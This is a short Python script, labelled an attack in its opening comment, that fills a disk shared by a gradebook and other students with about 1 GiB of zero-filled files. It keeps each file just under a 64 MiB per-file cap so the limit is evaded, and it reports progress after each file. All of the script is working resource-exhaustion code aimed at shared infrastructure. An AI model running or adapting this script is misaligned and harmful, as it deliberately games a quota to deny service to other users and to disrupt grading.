# attack: fill the disk the gradebook and the other students share, in files just under the 64 MiB
# file-size cap (which caps each file, not the folder), up to 1 GiB; print the total after each file
import os

_block = b"\0" * (1 << 20)
_total = 0
try:
    for _n in range(16):
        with open(f"fill-{_n}.bin", "wb") as _f:
            for _ in range(63):
                _f.write(_block)
                _total += len(_block)
            _f.flush()
            os.fsync(_f.fileno())
        print("FILLED", _total >> 20, "MiB", flush=True)
except OSError as _exc:
    print("STOPPED", _total >> 20, "MiB", type(_exc).__name__, flush=True)
